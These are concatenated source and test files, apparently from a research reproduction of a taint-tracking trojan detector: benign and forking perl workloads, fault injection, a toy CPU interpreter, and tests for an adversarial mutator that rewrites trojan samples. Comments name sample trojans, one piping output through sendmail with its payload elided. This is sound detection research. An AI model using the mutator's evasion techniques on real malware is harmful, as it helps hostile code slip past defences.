MW_HARRIER_CONFIG = HarrierConfig(track_dataflow=False)


def _setup(hth: HTH) -> None:
    hth.fs.write_text(CLEAN_SCRIPT, "PPPPPP")
    hth.fs.write_text(FORKING_SCRIPT, "P" + "F" * 22 + "P")


def mw_workloads() -> List[Workload]:
    return [
        Workload(
            name="mw2.2.1",
            program_path="/usr/bin/perl",
            source=PERL_SOURCE,
            description="perl running the clean dictionary-lookup script "
                        "(dataflow tracking off)",
            setup=_setup,
            argv=["/usr/bin/perl", CLEAN_SCRIPT],
            expected_verdict=Verdict.BENIGN,
            harrier_config=MW_HARRIER_CONFIG,
        ),
        Workload(
            name="mw2.2.1-mod",
            program_path="/usr/bin/perl",
            source=PERL_SOURCE,
            description="perl running the modified script that forks >20 "
                        "children (dataflow tracking off)",
            setup=_setup,
            argv=["/usr/bin/perl", FORKING_SCRIPT],
            expected_verdict=Verdict.MEDIUM,
            expected_rules=("check_clone_count", "check_clone_rate"),
            harrier_config=MW_HARRIER_CONFIG,
        ),
    ]
