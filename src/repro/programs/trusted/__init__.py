"""Trusted-program analogues (paper Table 7)."""

from repro.programs.trusted.buildtools import buildtools_workloads
from repro.programs.trusted.coreutils import coreutils_workloads
from repro.programs.trusted.registry import table7_workloads
from repro.programs.trusted.x11 import x11_workloads

__all__ = [
    "table7_workloads",
    "coreutils_workloads",
    "buildtools_workloads",
    "x11_workloads",
]
