"""Fault kinds, profiles, and the record of what a run actually injected.

Two families of faults exist, and the distinction matters for what the
chaos harness may assert:

* **Transparent** faults perturb *when* things happen but not *what* the
  guest observes: a stall parks the syscall through the kernel's existing
  blocked-retry machinery (the guest never sees an error return, the call
  just completes later), and quantum jitter reshapes scheduling slices.
  Detection verdicts are stable under transparent faults by construction,
  so the stability suite asserts exact classification under them.

* **Semantic** faults are guest-visible: a read returns ``-EIO``, a
  connect is refused even though the peer exists, a hostname stops
  resolving.  They drive execution down rare error-handling paths — the
  place related work says trojans hide — but they can legitimately change
  what a program does, so the harness only asserts *graceful degradation*
  (no crash, no hang, a coherent report) rather than verdict equality.
"""

from __future__ import annotations

import enum
from dataclasses import dataclass, field
from typing import FrozenSet, Tuple

from repro.kernel import errors
from repro.kernel.syscalls import (
    SYS_OPEN,
    SYS_READ,
    SYS_RESOLVE,
    SYS_SOCKETCALL,
    SYS_WRITE,
)


class FaultKind(enum.Enum):
    """What was done to one intercepted kernel operation."""

    STALL = "stall"                  # transparent one-shot WouldBlock
    ERRNO = "errno"                  # guest-visible negative errno return
    CONNECT_RESET = "connect-reset"  # connect fails despite a live peer
    RESOLVE_FAIL = "resolve-fail"    # DNS lookup fails for a known host
    QUANTUM_JITTER = "quantum-jitter"  # scheduler slice perturbation


@dataclass(frozen=True)
class FaultProfile:
    """Probabilities and shapes of the faults a run may suffer.

    Rates are per *opportunity* (one interceptable syscall dispatch, one
    scheduler quantum).  All randomness is drawn from a single
    ``random.Random(seed)`` stream in arrival order, which is what makes a
    run replayable from its seed.
    """

    #: Chance an eligible syscall is parked once before completing.
    stall_rate: float = 0.0
    #: Syscalls eligible for stalls.  A stall fires *before* the handler
    #: runs (the handler executes exactly once, on the retry), so any
    #: call can stall transparently; the default set is the I/O boundary.
    stall_syscalls: FrozenSet[int] = frozenset(
        {SYS_READ, SYS_WRITE, SYS_OPEN, SYS_SOCKETCALL, SYS_RESOLVE}
    )
    #: Chance an eligible syscall returns an injected errno to the guest.
    errno_rate: float = 0.0
    #: Errno values the injector picks between (uniformly).
    errno_codes: Tuple[int, ...] = (
        errors.EIO, errors.ENOSPC, errors.EAGAIN
    )
    #: Syscalls eligible for errno injection.
    errno_syscalls: FrozenSet[int] = frozenset(
        {SYS_READ, SYS_WRITE, SYS_OPEN}
    )
    #: Chance an outbound connect is reset despite a reachable peer.
    connect_reset_rate: float = 0.0
    #: Chance a SYS_resolve lookup fails for a registered host.
    resolve_fail_rate: float = 0.0
    #: Scheduler quantum perturbation: each quantum is scaled by a factor
    #: drawn uniformly from [1 - jitter, 1 + jitter] (0 disables).
    quantum_jitter: float = 0.0
    #: Hard cap on injected faults per run (None = unlimited).  Stalls and
    #: errno/connect/resolve faults count; quantum jitter does not.
    max_faults: int | None = None


#: Semantics-preserving chaos: stalls plus scheduling jitter.  Used by the
#: chaos stability suite, which asserts verdicts are *unchanged*.
TRANSPARENT_PROFILE = FaultProfile(stall_rate=0.25, quantum_jitter=0.5)

#: Guest-visible chaos: transient errno faults, socket resets, DNS
#: failures (plus jitter).  Used for graceful-degradation testing only.
SEMANTIC_PROFILE = FaultProfile(
    errno_rate=0.05,
    connect_reset_rate=0.25,
    resolve_fail_rate=0.25,
    quantum_jitter=0.5,
)


@dataclass(frozen=True)
class InjectedFault:
    """One fault the injector actually delivered (the replay log)."""

    time: int          # kernel virtual time at injection
    pid: int
    kind: FaultKind
    call_name: str     # syscall (or "quantum") the fault landed on
    detail: str = ""   # errno name, stall reason, jittered size, ...

    def __str__(self) -> str:  # pragma: no cover - debug/CLI rendering
        return (f"t={self.time} pid={self.pid} {self.kind.value} "
                f"{self.call_name} {self.detail}".rstrip())


@dataclass
class FaultPlan:
    """A profile bound to a seed: everything needed to replay a run."""

    seed: int
    profile: FaultProfile = field(default_factory=FaultProfile)

    def build(self) -> "FaultInjector":  # noqa: F821 - runtime import
        from repro.faultinject.injector import FaultInjector

        return FaultInjector(profile=self.profile, seed=self.seed)
