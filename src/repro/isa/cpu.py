"""CPU interpreter with per-instruction effect traces.

The interpreter executes one instruction per :meth:`CPU.step` call and
returns a :class:`StepResult` describing *what moved where*: a list of
:class:`TaintTransfer` records mapping each written location to the
locations that produced its value.  Harrier's dataflow module replays these
transfers over shadow state — the CPU itself knows nothing about taint,
mirroring the paper's separation between the tracking mechanism and the
analysis (Figure 1).

System calls (``int 0x80``) are *not* executed here: the step returns with
``kind=SYSCALL`` and the program counter already advanced, and the kernel
performs the call.  This is the hook point where Harrier interposes
(paper section 7.1: "Harrier will interrupt the execution of the program
and wait until Secpert analysis is done").
"""

from __future__ import annotations

import enum
from dataclasses import dataclass, field
from typing import List, Optional, Tuple, Union

from repro.isa.instructions import (
    ALU_OPCODES,
    Imm,
    Instruction,
    Mem,
    Opcode,
    Reg,
)
from repro.isa.memory import FlatMemory, MemoryFault
from repro.isa.registers import CPUID_REGISTERS, RegisterFile


class CpuFault(Exception):
    """An execution fault (bad fetch, division by zero, HLT)."""


class StepKind(enum.Enum):
    NORMAL = "normal"
    SYSCALL = "syscall"   # int 0x80 reached; kernel must service it
    CPUID = "cpuid"
    HALT = "halt"         # HLT executed


#: A location in a taint transfer: a register, a memory cell, an immediate
#: (data embedded in the binary), the hardware, or a constant-zero result.
RegLoc = Tuple[str, str]       # ("reg", name)
MemLoc = Tuple[str, int]       # ("mem", addr)
Location = Union[RegLoc, MemLoc, Tuple[str]]

LOC_IMM: Location = ("imm",)
LOC_HARDWARE: Location = ("hardware",)
LOC_ZERO: Location = ("zero",)


def reg_loc(name: str) -> Location:
    return ("reg", name)


def mem_loc(addr: int) -> Location:
    return ("mem", addr)


@dataclass(frozen=True)
class TaintTransfer:
    """``dst``'s new value was computed from ``srcs``."""

    dst: Location
    srcs: Tuple[Location, ...]


@dataclass
class StepResult:
    """Everything Harrier needs to know about one executed instruction."""

    pc: int
    instruction: Instruction
    kind: StepKind = StepKind.NORMAL
    transfers: List[TaintTransfer] = field(default_factory=list)
    #: CALL bookkeeping for the routine-level short-circuit module.
    call_target: Optional[int] = None
    call_return_addr: Optional[int] = None
    #: RET bookkeeping.
    ret_target: Optional[int] = None
    #: Next pc after this instruction (where execution will resume).
    next_pc: int = 0


#: Fixed CPUID identification values (arbitrary but stable; what matters to
#: the policy is the HARDWARE data source, not the content).
CPUID_VALUES = {"eax": 0x0DE1, "ebx": 0x756E6547, "ecx": 0x6C65746E,
                "edx": 0x49656E69}


class CPU:
    """One execution context (registers + flags + pc) over a memory."""

    __slots__ = ("memory", "regs", "pc", "zf", "sf", "halted")

    def __init__(self, memory: FlatMemory, entry: int = 0) -> None:
        self.memory = memory
        self.regs = RegisterFile()
        self.pc = entry
        self.zf = False
        self.sf = False
        self.halted = False

    # -- fork support -------------------------------------------------------
    def copy(self, memory: FlatMemory) -> "CPU":
        dup = CPU(memory, self.pc)
        dup.regs = self.regs.copy()
        dup.zf = self.zf
        dup.sf = self.sf
        dup.halted = self.halted
        return dup

    # -- execution ----------------------------------------------------------
    def step(self) -> StepResult:
        """Execute one instruction; raises :class:`CpuFault` on faults."""
        if self.halted:
            raise CpuFault("CPU is halted")
        pc = self.pc
        try:
            instr = self.memory.fetch(pc)
        except MemoryFault as exc:
            self.halted = True
            raise CpuFault(str(exc)) from exc

        result = StepResult(pc=pc, instruction=instr)
        self.pc = pc + 1  # default fall-through; transfers may override
        op = instr.opcode

        if op is Opcode.MOV:
            self._exec_mov(instr, result)
        elif op is Opcode.LOAD:
            self._exec_load(instr, result)
        elif op is Opcode.STORE:
            self._exec_store(instr, result)
        elif op in ALU_OPCODES:
            self._exec_alu(instr, result)
        elif op is Opcode.CMP:
            self._exec_cmp(instr)
        elif op in (Opcode.JMP, Opcode.JZ, Opcode.JNZ, Opcode.JL,
                    Opcode.JLE, Opcode.JG, Opcode.JGE):
            self._exec_jump(instr)
        elif op is Opcode.CALL:
            self._exec_call(instr, result)
        elif op is Opcode.RET:
            self._exec_ret(result)
        elif op is Opcode.PUSH:
            self._exec_push(instr, result)
        elif op is Opcode.POP:
            self._exec_pop(instr, result)
        elif op is Opcode.INT:
            vector = self._imm_value(instr.a)
            if vector != 0x80:
                self.halted = True
                raise CpuFault(f"unsupported interrupt {vector:#x} at {pc:#x}")
            result.kind = StepKind.SYSCALL
        elif op is Opcode.CPUID:
            self._exec_cpuid(result)
        elif op is Opcode.NOP:
            pass
        elif op is Opcode.HLT:
            self.halted = True
            result.kind = StepKind.HALT
        else:  # pragma: no cover - exhaustive
            raise CpuFault(f"unimplemented opcode {op}")

        result.next_pc = self.pc
        return result

    # -- operand helpers ------------------------------------------------------
    @staticmethod
    def _imm_value(operand) -> int:
        if not isinstance(operand, Imm):
            raise CpuFault(f"expected immediate, got {operand}")
        return operand.value

    def _source_value(self, operand) -> Tuple[int, Location]:
        """Value and taint location of a Reg|Imm source operand."""
        if isinstance(operand, Reg):
            return self.regs.get(operand.name), reg_loc(operand.name)
        if isinstance(operand, Imm):
            return operand.value, LOC_IMM
        raise CpuFault(f"bad source operand {operand}")

    def _mem_addr(self, operand: Mem) -> int:
        return self.regs.get(operand.base) + operand.offset

    def _set_flags(self, value: int) -> None:
        self.zf = value == 0
        self.sf = value < 0

    # -- per-opcode implementations ------------------------------------------
    def _exec_mov(self, instr: Instruction, result: StepResult) -> None:
        dst: Reg = instr.a  # type: ignore[assignment]
        value, src_loc = self._source_value(instr.b)
        self.regs.set(dst.name, value)
        result.transfers.append(TaintTransfer(reg_loc(dst.name), (src_loc,)))

    def _exec_load(self, instr: Instruction, result: StepResult) -> None:
        dst: Reg = instr.a  # type: ignore[assignment]
        addr = self._mem_addr(instr.b)  # type: ignore[arg-type]
        self.regs.set(dst.name, self.memory.read(addr))
        result.transfers.append(
            TaintTransfer(reg_loc(dst.name), (mem_loc(addr),))
        )

    def _exec_store(self, instr: Instruction, result: StepResult) -> None:
        addr = self._mem_addr(instr.a)  # type: ignore[arg-type]
        value, src_loc = self._source_value(instr.b)
        self.memory.write(addr, value)
        result.transfers.append(TaintTransfer(mem_loc(addr), (src_loc,)))

    def _exec_alu(self, instr: Instruction, result: StepResult) -> None:
        dst: Reg = instr.a  # type: ignore[assignment]
        lhs = self.regs.get(dst.name)
        rhs, src_loc = self._source_value(instr.b)
        op = instr.opcode
        if op is Opcode.ADD:
            value = lhs + rhs
        elif op is Opcode.SUB:
            value = lhs - rhs
        elif op is Opcode.MUL:
            value = lhs * rhs
        elif op in (Opcode.DIV, Opcode.MOD):
            if rhs == 0:
                self.halted = True
                raise CpuFault(f"division by zero at {result.pc:#x}")
            if op is Opcode.DIV:
                value = int(lhs / rhs)  # truncate toward zero, like x86 idiv
            else:
                value = lhs - int(lhs / rhs) * rhs
        elif op is Opcode.XOR:
            value = lhs ^ rhs
        elif op is Opcode.AND:
            value = lhs & rhs
        elif op is Opcode.OR:
            value = lhs | rhs
        elif op is Opcode.SHL:
            # Mask the count to 0-63 like x86: a guest-controlled count
            # must not allocate multi-gigabyte ints and stall the monitor.
            value = lhs << (rhs & 63)
        elif op is Opcode.SHR:
            value = lhs >> (rhs & 63)
        else:  # pragma: no cover - exhaustive
            raise CpuFault(f"bad ALU opcode {op}")
        self.regs.set(dst.name, value)
        self._set_flags(value)

        same_reg = isinstance(instr.b, Reg) and instr.b.name == dst.name
        if op in (Opcode.XOR, Opcode.SUB) and same_reg:
            # xor r, r / sub r, r produce a constant zero: the standard
            # taint-tracking special case — the result carries no data.
            srcs: Tuple[Location, ...] = (LOC_ZERO,)
        else:
            srcs = (reg_loc(dst.name), src_loc)
        result.transfers.append(TaintTransfer(reg_loc(dst.name), srcs))

    def _exec_cmp(self, instr: Instruction) -> None:
        lhs = self.regs.get(instr.a.name)  # type: ignore[union-attr]
        rhs, _ = self._source_value(instr.b)
        self._set_flags(lhs - rhs)

    def _exec_jump(self, instr: Instruction) -> None:
        target = self._imm_value(instr.a)
        op = instr.opcode
        taken = (
            op is Opcode.JMP
            or (op is Opcode.JZ and self.zf)
            or (op is Opcode.JNZ and not self.zf)
            or (op is Opcode.JL and self.sf)
            or (op is Opcode.JLE and (self.sf or self.zf))
            or (op is Opcode.JG and not (self.sf or self.zf))
            or (op is Opcode.JGE and not self.sf)
        )
        if taken:
            self.pc = target

    def _exec_call(self, instr: Instruction, result: StepResult) -> None:
        if isinstance(instr.a, Reg):
            target = self.regs.get(instr.a.name)
        else:
            target = self._imm_value(instr.a)
        return_addr = self.pc  # already advanced past the CALL
        sp = self.regs.get("esp") - 1
        self.regs.set("esp", sp)
        self.memory.write(sp, return_addr)
        result.transfers.append(TaintTransfer(mem_loc(sp), (LOC_ZERO,)))
        self.pc = target
        result.call_target = target
        result.call_return_addr = return_addr

    def _exec_ret(self, result: StepResult) -> None:
        sp = self.regs.get("esp")
        target = self.memory.read(sp)
        self.regs.set("esp", sp + 1)
        self.pc = target
        result.ret_target = target

    def _exec_push(self, instr: Instruction, result: StepResult) -> None:
        value, src_loc = self._source_value(instr.a)
        sp = self.regs.get("esp") - 1
        self.regs.set("esp", sp)
        self.memory.write(sp, value)
        result.transfers.append(TaintTransfer(mem_loc(sp), (src_loc,)))

    def _exec_pop(self, instr: Instruction, result: StepResult) -> None:
        dst: Reg = instr.a  # type: ignore[assignment]
        sp = self.regs.get("esp")
        self.regs.set(dst.name, self.memory.read(sp))
        self.regs.set("esp", sp + 1)
        result.transfers.append(
            TaintTransfer(reg_loc(dst.name), (mem_loc(sp),))
        )

    def _exec_cpuid(self, result: StepResult) -> None:
        for reg in CPUID_REGISTERS:
            self.regs.set(reg, CPUID_VALUES[reg])
            result.transfers.append(
                TaintTransfer(reg_loc(reg), (LOC_HARDWARE,))
            )
        result.kind = StepKind.CPUID
