"""The adversarial mutator: determinism, semantics preservation, and
the source-model round trip it is built on."""

import os
import pathlib
import subprocess
import sys

import pytest

from repro.api import Session
from repro.isa.assembler import parse_source, render_source
from repro.programs.mutate import (
    MUTATION_CLASSES,
    MutationRecipe,
    mutate_workload,
    variant_name,
    variants,
)
from repro.programs.registry import get

#: Fast parents spanning the interesting shapes: control flow + libc
#: calls + data section (loop forker), string building + argv/env
#: (nlspath), stdin + taint flow (grabem).
FAST_PARENTS = ("loop forker", "nlspath", "grabem")


class TestSourceModelRoundTrip:
    @pytest.mark.parametrize("name", FAST_PARENTS)
    def test_parse_render_preserves_the_program(self, name):
        parent = get(name)
        rendered = render_source(parse_source(parent.source))
        # Round-tripped source assembles to the same text/data layout.
        from dataclasses import replace

        a = parent.image()
        b = type(parent)(
            name=parent.name, program_path=parent.program_path,
            source=rendered,
        ).image()
        # Source line numbers legitimately move; everything else holds.
        assert [replace(i, line=0) for i in a.text] == \
            [replace(i, line=0) for i in b.text]
        assert a.data == b.data and a.data_size == b.data_size
        assert a.symbols == b.symbols

    def test_render_is_a_fixpoint(self):
        source = get("loop forker").source
        once = render_source(parse_source(source))
        twice = render_source(parse_source(once))
        assert once == twice


class TestDeterminism:
    def test_same_coordinates_same_bytes(self):
        parent = get("loop forker")
        for klass in MUTATION_CLASSES:
            a = mutate_workload(parent, klass, 5)
            b = mutate_workload(parent, klass, 5)
            assert a.source == b.source
            assert a.program_path == b.program_path
            assert a.recipe == b.recipe

    def test_different_seeds_differ(self):
        parent = get("loop forker")
        a = mutate_workload(parent, "deadcode", 0)
        b = mutate_workload(parent, "deadcode", 1)
        assert a.source != b.source

    def test_hashseed_independent_across_processes(self):
        """The contract the fleet depends on: workers in *other*
        processes (any PYTHONHASHSEED) regenerate identical variants."""
        script = (
            "from repro.programs.mutate import mutate_workload\n"
            "from repro.programs.registry import get\n"
            "v = mutate_workload(get('grabem'), 'rename-labels', 3)\n"
            "import sys; sys.stdout.write(v.source)\n"
        )
        repo = pathlib.Path(__file__).resolve().parents[2]
        outputs = set()
        for hashseed in ("0", "1", "random"):
            env = dict(os.environ)
            env["PYTHONPATH"] = str(repo / "src")
            env["PYTHONHASHSEED"] = hashseed
            proc = subprocess.run(
                [sys.executable, "-c", script],
                capture_output=True, text=True, check=True,
                env=env, cwd=str(repo),
            )
            outputs.add(proc.stdout)
        assert len(outputs) == 1
        assert outputs == {
            mutate_workload(get("grabem"), "rename-labels", 3).source
        }

    def test_variants_factory_resolves_by_ref(self):
        from repro.fleet.refs import WorkloadRef

        ref = WorkloadRef(
            module="repro.programs.mutate",
            factory="variants",
            name=variant_name("loop forker", "substitute", 2),
            params=("loop forker", "substitute", 2),
        )
        resolved = ref.resolve()
        assert resolved.name == "loop forker~substitute#2"
        assert resolved.source == \
            mutate_workload(get("loop forker"), "substitute", 2).source

    def test_unknown_class_rejected(self):
        with pytest.raises(ValueError, match="unknown mutation class"):
            mutate_workload(get("loop forker"), "polymorphic", 0)
        with pytest.raises(LookupError):
            variants("no such parent", "deadcode", 0)


class TestRecipe:
    def test_recipe_records_coordinates_and_ops(self):
        parent = get("nlspath")
        v = mutate_workload(parent, "deadcode", 9)
        assert isinstance(v.recipe, MutationRecipe)
        assert v.recipe.parent == "nlspath"
        assert v.recipe.klass == "deadcode"
        assert v.recipe.seed == 9
        assert v.recipe.ops
        assert v.recipe.to_dict()["ops"] == list(v.recipe.ops)

    def test_variant_inherits_expectations(self):
        parent = get("grabem")
        v = mutate_workload(parent, "rename-labels", 0)
        assert v.expected_verdict is parent.expected_verdict
        assert v.expected_rules == parent.expected_rules
        assert v.stdin == parent.stdin

    def test_rename_never_aliases_a_referenced_path(self):
        """Installing an execve Trojan *as* the binary it execs would
        make it exec itself forever — a different program.  The new
        path must never appear in the parent's string data (comments
        don't count: they never reach the guest)."""
        def strings(workload):
            return " ".join(
                op
                for stmt in parse_source(workload.source)
                if stmt.mnemonic in (".asciz", ".ascii")
                for op in stmt.operands
            )

        parent = get("Hardcode")  # execve("/bin/ls")
        elm = get("ElmExploit")   # system("...| /usr/sbin/sendmail -t")
        for seed in range(40):
            v = mutate_workload(parent, "rename-paths", seed)
            assert v.program_path != "/bin/ls"
            assert v.program_path not in strings(parent)
            e = mutate_workload(elm, "rename-paths", seed)
            assert e.program_path not in strings(elm)
            # system() callers exec /bin/sh via libc's own string —
            # masquerading as the shell would self-exec too.
            assert e.program_path != "/bin/sh"

    def test_rename_paths_rewrites_argv_head(self):
        parent = get("nlspath")
        # nlspath has no explicit argv; synthesize one through a parent
        # that does (table 6 rows carry argv[0] = program path).
        parent6 = get("File -> File: Hardcoded, Hardcoded")
        assert parent6.argv[0] == parent6.program_path
        v = mutate_workload(parent6, "rename-paths", 1)
        assert v.program_path != parent6.program_path
        assert v.argv[0] == v.program_path
        assert v.argv[1:] == parent6.argv[1:]
        assert v.source == render_source(parse_source(parent6.source))
        del parent


class TestSemanticsPreservation:
    """Variants must classify exactly like their parents — on Trojans
    (same verdict, same rules) and on benign programs (no new alarms)."""

    @pytest.mark.parametrize("name", FAST_PARENTS)
    @pytest.mark.parametrize("klass", MUTATION_CLASSES)
    def test_trojan_variants_keep_the_verdict(self, name, klass):
        session = Session()
        variant = mutate_workload(get(name), klass, 1)
        report = session.run_workload(variant)
        assert variant.classified_correctly(report), (
            f"{variant.name}: expected "
            f"{variant.expected_verdict.value}, got "
            f"{report.verdict.value} via {variant.recipe.ops}"
        )

    @pytest.mark.parametrize("klass", MUTATION_CLASSES)
    def test_benign_parent_stays_benign(self, klass):
        session = Session()
        variant = mutate_workload(get("wc"), klass, 1)
        report = session.run_workload(variant)
        assert variant.classified_correctly(report), (
            f"{variant.name}: benign parent flagged "
            f"{report.verdict.value} via {variant.recipe.ops}"
        )
