"""Fact templates and facts (the CLIPS ``deftemplate``/``assert`` model).

Facts are immutable bags of named slot values.  A slot may be declared
*multi* (CLIPS multislot), in which case its value is always a tuple —
Secpert uses multislots for resource-origin names/types because a value
can derive from several data sources at once (paper appendix A.1).
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Any, Dict, Mapping, Optional, Tuple


class TemplateError(Exception):
    """Slot mismatch when building or reading facts."""


@dataclass(frozen=True)
class SlotSpec:
    name: str
    multi: bool = False
    default: Any = None

    def normalize(self, value: Any) -> Any:
        if self.multi:
            if value is None:
                return ()
            if isinstance(value, (list, tuple, set, frozenset)):
                return tuple(value)
            return (value,)
        return value


class Template:
    """A named fact shape."""

    def __init__(self, name: str, slots: Tuple[SlotSpec, ...]) -> None:
        self.name = name
        self.slots: Dict[str, SlotSpec] = {s.name: s for s in slots}
        if len(self.slots) != len(slots):
            raise TemplateError(f"duplicate slot in template {name!r}")

    @classmethod
    def define(cls, name: str, *slot_names: str, multi: Tuple[str, ...] = ()
               ) -> "Template":
        """Shorthand: ``Template.define("t", "a", "b", multi=("c",))``."""
        specs = [SlotSpec(s) for s in slot_names]
        specs.extend(SlotSpec(s, multi=True) for s in multi)
        return cls(name, tuple(specs))

    def make(self, **values: Any) -> "Fact":
        unknown = set(values) - set(self.slots)
        if unknown:
            raise TemplateError(
                f"template {self.name!r} has no slot(s) {sorted(unknown)}"
            )
        normalized = {}
        for slot in self.slots.values():
            raw = values.get(slot.name, slot.default)
            normalized[slot.name] = slot.normalize(raw)
        return Fact(self, normalized)

    def __repr__(self) -> str:  # pragma: no cover - debug aid
        return f"Template({self.name!r}, slots={list(self.slots)})"


class Fact:
    """One working-memory element.

    ``fact_id`` and ``recency`` are stamped by the engine at assert time.
    """

    __slots__ = ("template", "values", "fact_id", "recency")

    def __init__(self, template: Template, values: Mapping[str, Any]) -> None:
        self.template = template
        self.values: Dict[str, Any] = dict(values)
        self.fact_id: Optional[int] = None
        self.recency: int = 0

    @property
    def name(self) -> str:
        return self.template.name

    def get(self, slot: str) -> Any:
        if slot not in self.template.slots:
            raise TemplateError(
                f"template {self.name!r} has no slot {slot!r}"
            )
        return self.values[slot]

    def __getitem__(self, slot: str) -> Any:
        return self.get(slot)

    def items(self):
        return self.values.items()

    def __repr__(self) -> str:
        inner = " ".join(f"({k} {v!r})" for k, v in sorted(self.values.items()))
        tag = f"f-{self.fact_id}" if self.fact_id is not None else "f-?"
        return f"<{tag} ({self.name} {inner})>"
