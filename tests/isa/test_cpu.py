"""CPU interpreter tests: semantics, flags, stack, effect traces."""

import pytest

from repro.isa import (
    CPU,
    CpuFault,
    FlatMemory,
    Imm,
    Instruction,
    LOC_HARDWARE,
    LOC_IMM,
    LOC_ZERO,
    Mem,
    Opcode,
    Reg,
    StepKind,
    TaintTransfer,
    mem_loc,
    reg_loc,
)
from repro.isa.cpu import CPUID_VALUES


def make_cpu(*instructions, entry=0):
    mem = FlatMemory()
    mem.map_code(entry, instructions)
    cpu = CPU(mem, entry=entry)
    cpu.regs.set("esp", 0x1000)
    return cpu


def run(cpu, steps):
    results = []
    for _ in range(steps):
        results.append(cpu.step())
    return results


class TestDataMovement:
    def test_mov_imm(self):
        cpu = make_cpu(Instruction(Opcode.MOV, Reg("eax"), Imm(42)))
        (res,) = run(cpu, 1)
        assert cpu.regs.get("eax") == 42
        assert res.transfers == [TaintTransfer(reg_loc("eax"), (LOC_IMM,))]

    def test_mov_reg(self):
        cpu = make_cpu(Instruction(Opcode.MOV, Reg("ebx"), Reg("eax")))
        cpu.regs.set("eax", 7)
        (res,) = run(cpu, 1)
        assert cpu.regs.get("ebx") == 7
        assert res.transfers == [
            TaintTransfer(reg_loc("ebx"), (reg_loc("eax"),))
        ]

    def test_load_store_roundtrip(self):
        cpu = make_cpu(
            Instruction(Opcode.STORE, Mem("ebx", 2), Imm(9)),
            Instruction(Opcode.LOAD, Reg("ecx"), Mem("ebx", 2)),
        )
        cpu.regs.set("ebx", 0x100)
        res = run(cpu, 2)
        assert cpu.regs.get("ecx") == 9
        assert res[0].transfers == [TaintTransfer(mem_loc(0x102), (LOC_IMM,))]
        assert res[1].transfers == [
            TaintTransfer(reg_loc("ecx"), (mem_loc(0x102),))
        ]

    def test_unwritten_memory_reads_zero(self):
        cpu = make_cpu(Instruction(Opcode.LOAD, Reg("eax"), Mem("ebx", 0)))
        cpu.regs.set("eax", 123)
        run(cpu, 1)
        assert cpu.regs.get("eax") == 0


class TestAlu:
    @pytest.mark.parametrize(
        "op,lhs,rhs,expected",
        [
            (Opcode.ADD, 3, 4, 7),
            (Opcode.SUB, 3, 4, -1),
            (Opcode.MUL, 3, 4, 12),
            (Opcode.DIV, 7, 2, 3),
            (Opcode.DIV, -7, 2, -3),  # truncation toward zero
            (Opcode.MOD, 7, 2, 1),
            (Opcode.XOR, 0b101, 0b011, 0b110),
            (Opcode.AND, 0b101, 0b011, 0b001),
            (Opcode.OR, 0b101, 0b011, 0b111),
            (Opcode.SHL, 1, 4, 16),
            (Opcode.SHR, 16, 2, 4),
        ],
    )
    def test_alu_ops(self, op, lhs, rhs, expected):
        cpu = make_cpu(Instruction(op, Reg("eax"), Imm(rhs)))
        cpu.regs.set("eax", lhs)
        run(cpu, 1)
        assert cpu.regs.get("eax") == expected

    def test_div_by_zero_faults(self):
        cpu = make_cpu(Instruction(Opcode.DIV, Reg("eax"), Imm(0)))
        with pytest.raises(CpuFault):
            cpu.step()
        assert cpu.halted

    def test_alu_sets_flags(self):
        cpu = make_cpu(Instruction(Opcode.SUB, Reg("eax"), Imm(5)))
        cpu.regs.set("eax", 5)
        run(cpu, 1)
        assert cpu.zf and not cpu.sf

    @pytest.mark.parametrize(
        ("op", "lhs", "count", "expected"),
        [
            # counts are masked to 0-63 like x86: 64 == 0, 65 == 1, and a
            # guest-controlled huge count can't allocate a gigantic int
            (Opcode.SHL, 1, 64, 1),
            (Opcode.SHL, 1, 65, 2),
            (Opcode.SHL, 3, 1 << 40, 3),
            (Opcode.SHR, 16, 64, 16),
            (Opcode.SHL, 1, -1, 1 << 63),  # -1 & 63 == 63
            (Opcode.SHR, 1 << 63, -1, 1),
        ],
    )
    def test_shift_counts_masked(self, op, lhs, count, expected):
        cpu = make_cpu(Instruction(op, Reg("eax"), Reg("ebx")))
        cpu.regs.set("eax", lhs)
        cpu.regs.set("ebx", count)
        run(cpu, 1)
        assert cpu.regs.get("eax") == expected

    def test_alu_transfer_unions_both_operands(self):
        cpu = make_cpu(Instruction(Opcode.ADD, Reg("eax"), Reg("ebx")))
        (res,) = run(cpu, 1)
        assert res.transfers == [
            TaintTransfer(reg_loc("eax"), (reg_loc("eax"), reg_loc("ebx")))
        ]

    def test_xor_self_clears_taint(self):
        cpu = make_cpu(Instruction(Opcode.XOR, Reg("eax"), Reg("eax")))
        (res,) = run(cpu, 1)
        assert res.transfers == [TaintTransfer(reg_loc("eax"), (LOC_ZERO,))]
        assert cpu.regs.get("eax") == 0

    def test_sub_self_clears_taint(self):
        cpu = make_cpu(Instruction(Opcode.SUB, Reg("ebx"), Reg("ebx")))
        (res,) = run(cpu, 1)
        assert res.transfers == [TaintTransfer(reg_loc("ebx"), (LOC_ZERO,))]


class TestControlFlow:
    def test_jmp(self):
        cpu = make_cpu(
            Instruction(Opcode.JMP, Imm(2)),
            Instruction(Opcode.MOV, Reg("eax"), Imm(1)),
            Instruction(Opcode.MOV, Reg("eax"), Imm(2)),
        )
        run(cpu, 2)
        assert cpu.regs.get("eax") == 2

    @pytest.mark.parametrize(
        "op,value,taken",
        [
            (Opcode.JZ, 0, True),
            (Opcode.JZ, 1, False),
            (Opcode.JNZ, 1, True),
            (Opcode.JNZ, 0, False),
            (Opcode.JL, -1, True),
            (Opcode.JL, 0, False),
            (Opcode.JLE, 0, True),
            (Opcode.JLE, 1, False),
            (Opcode.JG, 1, True),
            (Opcode.JG, 0, False),
            (Opcode.JGE, 0, True),
            (Opcode.JGE, -1, False),
        ],
    )
    def test_conditional_branches(self, op, value, taken):
        cpu = make_cpu(
            Instruction(Opcode.CMP, Reg("eax"), Imm(0)),
            Instruction(op, Imm(5)),
        )
        cpu.regs.set("eax", value)
        run(cpu, 2)
        assert (cpu.pc == 5) is taken

    def test_call_ret(self):
        # 0: call 3 ; 1: mov eax, 99 ; 2: hlt ; 3: ret
        cpu = make_cpu(
            Instruction(Opcode.CALL, Imm(3)),
            Instruction(Opcode.MOV, Reg("eax"), Imm(99)),
            Instruction(Opcode.HLT),
            Instruction(Opcode.RET),
        )
        res = run(cpu, 3)
        assert res[0].call_target == 3
        assert res[0].call_return_addr == 1
        assert res[1].ret_target == 1
        assert cpu.regs.get("eax") == 99
        assert cpu.regs.get("esp") == 0x1000  # balanced

    def test_indirect_call(self):
        cpu = make_cpu(
            Instruction(Opcode.CALL, Reg("ebx")),
